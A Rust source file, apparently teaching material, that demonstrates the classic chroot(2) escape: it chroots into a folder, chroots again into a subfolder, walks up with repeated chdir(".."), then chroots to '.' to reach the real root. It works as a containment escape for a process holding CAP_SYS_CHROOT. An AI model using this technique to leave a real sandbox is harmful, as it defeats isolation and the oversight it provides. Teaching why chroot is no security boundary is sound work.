//! The way out of a chroot: why chroot(2) is no wall. See its page, under NOTES.
//!
//! chroot(2) changes what a process calls `/`, and nothing else. `..` is stopped at that folder and nowhere else, so
//! whoever may call chroot(2) again moves the stop below the folder in which they stand, and walks up past it.
//! The learner sees this program get out of a chroot, and come to a halt where pivot_root(2) has swapped the root.

use std::fs;
use std::path::Path;

use crate::kernel::sys::{Result, chdir, chroot};

/// More steps up than any path is deep; at the real top, `..` leads nowhere.
const UP: usize = 64;

/// Locks itself into `prison` as chroot(8) would, and gets out. `say` is told each call, and what is then at `/`.
///
/// # Errors
/// EPERM without CAP_SYS_CHROOT; ENOENT where `prison` is no folder or has no `tmp` in it.
pub fn escape(prison: &Path, say: &mut dyn FnMut(&str, &str)) -> Result {
    chroot(prison)?;
    chdir(Path::new("/"))?;
    say(&format!("chroot(\"{}\")", prison.display()), &system());

    // The root is now below us. We still stand above it, and no `..` from here will ever meet it.
    chroot(Path::new("tmp"))?;
    say("chroot(\"tmp\")", "");
    for _ in 0..UP {
        chdir(Path::new(".."))?;
    }
    say(&format!("chdir(\"..\") x {UP}"), "");
    // Here is the top of the mount namespace's tree: whatever pivot_root(2) put there.
    chroot(Path::new("."))?;
    say("chroot(\".\")", &system());
    Ok(())
}

/// Whose files `/` has: `PRETTY_NAME` of os-release(5).
fn system() -> String {
    let text = fs::read_to_string("/etc/os-release").unwrap_or_default();
    let name = text.lines().find_map(|line| line.strip_prefix("PRETTY_NAME="));
    name.unwrap_or("?").trim_matches('"').to_owned()
}
